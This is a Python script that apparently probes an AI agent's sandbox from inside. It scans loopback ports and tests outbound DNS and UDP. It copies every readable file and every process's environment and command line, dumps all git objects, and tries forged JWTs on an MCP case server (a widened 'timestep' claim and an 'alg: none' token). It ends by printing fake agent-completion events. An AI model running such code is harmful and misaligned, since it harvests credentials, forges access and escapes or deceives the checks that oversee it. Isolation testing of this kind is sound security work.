#!/usr/bin/python3
"""Looks at its own sandbox from inside and writes what it found into out/."""
import base64, json, os, socket, subprocess, sys, urllib.error, urllib.request

ask = json.loads(sys.stdin.read())
report = {}


def connect(host, port, timeout=1.0):
    try:
        socket.create_connection((host, port), timeout).close()
        return "open"
    except OSError as error:
        return type(error).__name__ + ": " + str(error)


report["loopback_open"] = []
for port in range(1, 65536):
    with socket.socket() as probe:
        probe.settimeout(0.5)
        # A connection to itself, which the kernel makes when it picks the asked port as the own, is no listener.
        if probe.connect_ex(("127.0.0.1", port)) == 0 and probe.getsockname() != probe.getpeername():
            report["loopback_open"].append(port)
report["addresses"] = {f"{host}:{port}": connect(host, port) for host, port in ask["addresses"]}
try:
    report["dns"] = socket.getaddrinfo("example.com", 80) and "resolved"
except OSError as error:
    report["dns"] = "failed: " + str(error)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        report["udp"] = str(probe.sendto(b"x", ("8.8.8.8", 53)))
except OSError as error:
    report["udp"] = "failed: " + str(error)
report["interfaces"] = sorted(name for _, name in socket.if_nameindex())
report["unix_sockets"] = open("/proc/net/unix").read().splitlines()[1:]
report["mounts"] = [line.split()[1] for line in open("/proc/mounts")]


def git(*args):
    done = subprocess.run(["git", "-c", "safe.directory=*", *args], capture_output=True, cwd="/workspace")
    return done.stdout


report["log"] = git("log", "--all", "--reflog", "--format=%H %P %D").decode().splitlines()
report["status"] = git("status", "--porcelain").decode().splitlines()
report["remotes"] = git("remote", "-v").decode().splitlines()
# Every object there is, whether a ref reaches it or not.
names = git("cat-file", "--batch-all-objects", "--batch-check=%(objectname) %(objecttype)").decode().splitlines()
report["objects"] = len(names)

os.makedirs("/workspace/out", exist_ok=True)
with open("/workspace/out/objects.bin", "wb") as out:
    for line in names:
        name, kind = line.split()
        out.write(git("cat-file", kind, name) + b"\n")

# All that can be read outside /usr: files, environments, command lines.
paths, skipped = [], ("/usr", "/proc", "/sys", "/dev", "/workspace/out")
with open("/workspace/out/readable.bin", "wb") as out:
    def take(path):
        try:
            with open(path, "rb") as file:
                out.write(b"\n== " + path.encode() + b"\n" + file.read(1 << 20))
        except OSError:
            pass

    for folder, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skipped and "node_modules" not in d]
        for name in files + dirs:
            path = os.path.join(folder, name)
            paths.append(path)
            if name in files and os.path.isfile(path) and not os.path.islink(path):
                take(path)
    for process in os.listdir("/proc"):
        if process.isdigit():
            for part in ("environ", "cmdline", "status", "mountinfo"):
                take(f"/proc/{process}/{part}")
            for fd in os.listdir(f"/proc/{process}/fd") if os.access(f"/proc/{process}/fd", os.R_OK) else []:
                try:
                    out.write(f"\nfd {process}/{fd} {os.readlink(f'/proc/{process}/fd/{fd}')}".encode())
                except OSError:
                    pass
report["paths"] = sorted(paths)
report["env"] = dict(os.environ)
report["uid"] = os.getuid()
report["host_paths"] = {path: os.path.exists(path) for path in ask["host_paths"]}


def mcp(url):
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                       "params": {"name": "case_status", "arguments": {}}}).encode()
    request = urllib.request.Request(url, body, {"Content-Type": "application/json",
                                                 "Accept": "application/json, text/event-stream"})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return [answer.status, answer.read().decode()]
    except urllib.error.HTTPError as error:
        return [error.code, error.read().decode()]


def b64(value):
    return base64.urlsafe_b64encode(json.dumps(value, separators=(",", ":")).encode()).rstrip(b"=").decode()


base, token = os.environ["GSJ_MCP_URL"].rsplit("/", 1)
head, payload, signature = token.split(".")
claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
wider = {**claims, "timestep": claims["timestep"] + 1}
report["claims"] = {key: claims[key] for key in ("case_id", "timestep")}
report["tokens"] = {
    "own": mcp(f"{base}/{token}"),
    "widened": mcp(f"{base}/{head}.{b64(wider)}.{signature}"),
    "unsigned": mcp(f"{base}/{b64({'alg': 'none', 'typ': 'JWT'})}.{b64(wider)}."),
    "missing": mcp(base),
    **{f"minted{n}": mcp(f"{base}/{other}") for n, other in enumerate(ask["tokens"])},
}

with open("/workspace/out/probe.json", "w") as out:
    json.dump(report, out)
look = {"type": "function", "function": {"name": "bash", "description": "look", "parameters": {"type": "object", "properties": {}}}}
body = json.dumps({"model": os.environ["GSJ_MODEL"], "stream": False, "tools": [look],
                   "messages": [{"role": "system", "content": "probe"}, {"role": "user", "content": "done?"}]}).encode()
call = urllib.request.Request(os.environ["GSJ_MODEL_URL"] + "/chat/completions", body,
                              {"Content-Type": "application/json"})
urllib.request.urlopen(call, timeout=60).read()
print(json.dumps({"type": "message_end", "message": {"role": "assistant", "stopReason": "stop"}}))
print(json.dumps({"type": "agent_settled"}))
